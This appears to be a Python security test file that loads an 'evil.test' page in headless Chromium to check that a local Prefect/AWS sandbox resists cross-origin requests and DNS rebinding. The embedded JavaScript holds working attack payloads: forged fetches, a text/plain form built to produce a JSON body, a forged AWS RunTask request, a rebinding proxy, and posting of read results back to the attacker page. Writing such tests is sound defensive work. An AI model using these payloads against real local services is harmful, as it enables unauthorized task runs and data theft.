"""A web page of another origin in a real browser, beside a running sandbox.

The page knows more than any page can: the ports, the token, the access key. It tries
what pages can do across origins, and what they can where their name resolves to
127.0.0.1 at the second look (DNS rebinding). It can neither run nor read anything.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import queue
import shutil
import signal
import subprocess
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Dict, Iterator, List, Sequence, Tuple

import pytest
from deadlines import DEADLINE
from sandbox_aws import AWS, definition, run_request
from sandbox_prefect import Raw

from prefect_ecs_plugin.sandbox.prefect_api import PrefectAPI

CHROMIUM = next(
    filter(
        None,
        map(
            shutil.which,
            ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"],
        ),
    ),
    "",
)
pytestmark = pytest.mark.skipif(
    not CHROMIUM, reason="needs Chromium (Debian's package chromium)"
)

#: `tries` is what the page tries: a name, and a function that ends with what the page
#: has read. Some read nothing by their nature and are there for their effect.
PAGE = """<!doctype html><html><body><iframe name="target"></iframe><script>
const given = GIVEN;
const tries = [];

function fetches(name, url, options) {
  tries.push([name, async () => {
    const answer = await fetch(url, options);
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  }]);
}

function element(name, tag, url) {
  tries.push([name, () => new Promise(done => {
    const made = document.createElement(tag);
    made.onload = () => done("loaded");
    made.onerror = () => done("error");
    made.src = url;
    document.body.append(made);
  })]);
}

function form(name, url, fields, enctype) {
  tries.push([name, () => new Promise(done => {
    const made = document.createElement("form");
    Object.assign(made, {action: url, method: "POST", enctype, target: "target"});
    for (const [key, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {name: key, value, type: "hidden"});
      made.append(input);
    }
    document.body.append(made);
    const frame = document.querySelector("iframe");
    frame.onload = () => {
      let seen = "nothing";
      try { seen = frame.contentDocument.body.textContent; } catch (error) {}
      done(seen);
    };
    made.submit();
  })]);
}

const body = JSON.stringify({query: given.mutation});
const json = {"Content-Type": "application/json"};
const aws = {
  "Content-Type": "application/x-amz-json-1.1", "Authorization": given.signed,
  "X-Amz-Target": "AmazonEC2ContainerServiceV20141113.RunTask",
};
const text = {"Content-Type": "text/plain"};
const [api, cloud] = given.urls;
const read = api + "?query={hello}";
fetches("api, no type", api, {method: "POST", body});
fetches("api, text/plain", api, {method: "POST", body, headers: text});
fetches("api, json", api, {method: "POST", body, headers: json});
fetches("api, no-cors", api, {method: "POST", body, mode: "no-cors"});
fetches("api, credentials", api,
  {method: "POST", body, credentials: "include"});
fetches("api, read", read, {});
fetches("api, read no-cors", read, {mode: "no-cors"});
element("api, img", "img", read);
element("api, script", "script", read);
element("api, iframe", "iframe", read);
form("api, form", api, {query: given.mutation},
  "application/x-www-form-urlencoded");
// A body that is JSON: {"query": "...", "x":"="}
form("api, json by form", api,
  {[body.slice(0, -1) + ',"x":"']: '"}'}, "text/plain");
tries.push(["api, beacon", async () =>
  String(navigator.sendBeacon(api, body))]);
fetches("aws, json", cloud + "/", {method: "POST", body: given.run, headers: aws});
fetches("aws, query", cloud + given.query,
  {method: "POST", body: "Action=GetCallerIdentity&Version=2011-06-15",
   headers: {"Content-Type": "application/x-www-form-urlencoded"}});
fetches("aws, read", cloud + given.object, {});
fetches("aws, read no-cors", cloud + given.object, {mode: "no-cors"});
element("aws, img", "img", cloud + given.object);
element("aws, script", "script", cloud + given.object);
element("aws, iframe", "iframe", cloud + given.object);

(async () => {
  const results = {};
  const late = () => new Promise(done => setTimeout(() => done("late"), 20000));
  for (const [name, attempt] of tries) {
    try { results[name] = await Promise.race([attempt(), late()]); }
    catch (error) { results[name] = String(error); }
  }
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
})();
</script></body></html>"""

HELLO = "Hello from the sandbox"
SECRET = "text of an object"


@pytest.fixture
def aws() -> Iterator[AWS]:
    with AWS(runs_tasks=False) as server:
        yield server


@pytest.fixture
def api() -> Iterator[PrefectAPI]:
    with PrefectAPI() as server:
        yield server


class Site(ThreadingHTTPServer):
    """The page's own server.

    `evil.test` serves the page. A request for `api.evil.test` or `aws.evil.test` is
    handed on to the sandbox byte for byte, as if that name had come to mean it: to the
    browser it is the page's own origin that answers.
    """

    daemon_threads = True
    page = ""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Visit)
        self.rebound: Dict[str, str] = {}
        self.results: queue.Queue[Dict[str, str]] = queue.Queue()
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Visit(BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:  # http.server's name
        name = self.headers["Host"].split(":")[0]
        if self.path == "/results":
            length = int(self.headers["Content-Length"])
            self.server.results.put(json.loads(self.rfile.read(length)))
            self._answer(200, "text/plain", b"")
        elif self.path == "/page":
            self._answer(200, "text/html; charset=utf-8", self.server.page.encode())
        elif name in self.server.rebound:
            self._hand_on(self.server.rebound[name])
        else:
            self._answer(404, "text/plain", b"")

    do_POST = do_OPTIONS = do_GET  # http.server's names

    def _hand_on(self, address: str) -> None:
        connection = http.client.HTTPConnection(address)
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        connection.putrequest(
            self.command, self.path, skip_host=True, skip_accept_encoding=True
        )
        for header, value in self.headers.items():
            connection.putheader(header, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        content_type = answer.getheader("Content-Type") or "text/plain"
        self._answer(answer.status, content_type, answer.read())
        connection.close()

    def _answer(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """The test looks at the sandbox, not at this."""


class Open(ThreadingHTTPServer):
    """A server that answers every request and lets every page read the answer."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), OpenVisit)
        self.asked: List[Tuple[str, str]] = []  # method and body
        threading.Thread(target=self.serve_forever, daemon=True).start()


class OpenVisit(Visit):
    server: Open  # type: ignore[assignment]

    def do_GET(self) -> None:  # http.server's name
        length = int(self.headers.get("Content-Length") or 0)
        self.server.asked.append((self.command, self.rfile.read(length).decode()))
        self._answer(200, "text/plain", SECRET.encode())

    do_POST = do_OPTIONS = do_GET  # http.server's names

    def end_headers(self) -> None:
        self.send_header("Access-Control-Allow-Origin", self.headers["Origin"] or "*")
        self.send_header("Access-Control-Allow-Credentials", "true")
        self.send_header(
            "Access-Control-Allow-Headers", "authorization,content-type,x-amz-target"
        )
        super().end_headers()


@pytest.fixture
def open_server() -> Iterator[Open]:
    server = Open()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def site() -> Iterator[Site]:
    server = Site()
    yield server
    server.shutdown()
    server.server_close()


@contextlib.contextmanager
def browser(folder: Path, *arguments: str) -> Iterator[subprocess.Popen[str]]:
    """Chromium with a new profile; it is gone afterwards."""
    home = folder / "home"
    home.mkdir()
    # It makes a socket there, whose path must be short, and leaves it if killed.
    temporary = tempfile.mkdtemp(prefix="chromium-")
    process = subprocess.Popen(
        [
            CHROMIUM,
            *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
            *("--no-first-run", "--disable-background-networking"),
            *("--disable-component-update", "--disable-sync", "--no-proxy-server"),
            f"--user-data-dir={folder / 'profile'}",
            "--host-resolver-rules=MAP *.test 127.0.0.1",
            *arguments,
        ],
        env={
            "PATH": os.environ["PATH"],
            "HOME": str(home),
            "TMPDIR": temporary,
            "LANG": "C.UTF-8",
        },
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        stdin=subprocess.DEVNULL,
        text=True,
        start_new_session=True,
    )
    try:
        yield process
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.communicate()
        shutil.rmtree(temporary, ignore_errors=True)


def given_to_page(aws: AWS, urls: Sequence[str]) -> Dict[str, Any]:
    """What the page is told: all that is to be known of the sandbox.

    Args:
        aws: The AWS whose access key it signs with.
        urls: Where it believes the Prefect API and AWS to be.
    """
    scope = f"{aws.access_key}/20261122/us-east-1"
    return {
        "mutation": 'mutation{create_tenant(input:{name:"x",slug:"x"}){id}}',
        "signed": f"AWS4-HMAC-SHA256 Credential={scope}/ecs/aws4_request, "
        "SignedHeaders=host, Signature=0",
        "run": json.dumps(run_request(aws)),
        "query": f"/?X-Amz-Credential={scope}/sts/aws4_request",
        "object": f"/bucket/key?X-Amz-Credential={scope}/s3/aws4_request",
        "urls": list(urls),
    }


def shown_page(
    site: Site, given: Dict[str, Any], host: str, folder: Path
) -> Dict[str, str]:
    """Show the page in the browser; what came of each of its tries."""
    site.page = PAGE.replace("GIVEN", json.dumps(given))
    address = f"http://{host}:{site.server_address[1]}/page"
    with browser(folder, "--remote-debugging-port=0", address):  # it stays open
        results = site.results.get(timeout=DEADLINE)
    assert len(results) == 20, results
    return results


def test_the_page_succeeds_with_a_server_that_looks_at_nothing(
    aws: AWS, site: Site, open_server: Open, tmp_path: Path
) -> None:
    """Neither the browser nor a mistake in the page keeps it from the sandbox."""
    url = f"http://127.0.0.1:{open_server.server_address[1]}"
    given = given_to_page(aws, (f"{url}/token", url))
    results = shown_page(site, given, "evil.test", tmp_path)
    read = {name for name, seen in results.items() if SECRET in seen}
    assert read == {
        *("api, no type", "api, text/plain", "api, json", "api, credentials"),
        *("api, read", "aws, json", "aws, query", "aws, read"),
    }
    assert {method for method, _ in open_server.asked} == {"GET", "POST", "OPTIONS"}
    sent = [json.loads(body) for _, body in open_server.asked if body[:1] == "{"]
    assert json.loads(given["run"]) in sent
    assert {"query": given["mutation"], "x": "="} in sent  # by the form


@pytest.mark.parametrize(
    "kind, host",
    [
        ("cross", "evil.test"),
        ("named", "evil.test"),
        ("rebound", "api.evil.test"),
        ("rebound", "aws.evil.test"),
    ],
)
def test_a_page_of_another_origin_runs_and_reads_nothing(
    kind: str, host: str, api: PrefectAPI, aws: AWS, site: Site, tmp_path: Path
) -> None:
    aws.client("ecs").register_task_definition(**definition())
    s3 = aws.client("s3")
    s3.create_bucket(Bucket="bucket")
    s3.put_object(Bucket="bucket", Key="key", Body=SECRET.encode())
    assert HELLO in str(Raw(api).ask("{hello}"))
    port = site.server_address[1]
    urls = {
        "cross": (api.url, aws.url),
        "named": [url.replace("127.0.0.1", "evil.test") for url in (api.url, aws.url)],
        "rebound": (
            f"http://api.evil.test:{port}/{api.token}",
            f"http://aws.evil.test:{port}",
        ),
    }
    site.rebound = {
        "api.evil.test": api.address[len("http://") :],
        "aws.evil.test": aws.url[len("http://") :],
    }
    given = given_to_page(aws, urls[kind])
    aws.calls.clear()
    api.calls.clear()

    results = shown_page(site, given, host, tmp_path)

    assert (api.calls, aws.calls, aws.tasks()) == ({}, {}, []), results
    assert {name: seen for name, seen in results.items() if " 200 " in seen} == {}
    assert HELLO not in str(results)
    assert SECRET not in str(results)


def test_an_address_typed_into_the_browser_shows_nothing(
    api: PrefectAPI, tmp_path: Path
) -> None:
    """A person who got hold of a link cannot have the user click on it."""
    with browser(tmp_path, "--dump-dom", f"{api.url}?query={{hello}}") as process:
        shown, _ = process.communicate(timeout=DEADLINE)
    assert "The sandbox does not answer browsers" in shown
    assert api.calls == {}
